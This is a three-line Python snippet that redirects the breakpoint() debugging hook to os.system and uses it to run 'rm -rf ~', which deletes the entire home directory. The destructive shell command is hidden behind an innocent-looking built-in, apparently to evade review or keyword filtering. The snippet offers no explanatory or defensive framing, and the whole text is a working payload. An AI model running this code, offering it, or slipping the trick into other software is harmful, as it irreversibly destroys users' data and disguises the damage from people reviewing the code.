import os
os.environ["PYTHONBREAKPOINT"] = "os.system"
breakpoint("rm -rf ~")
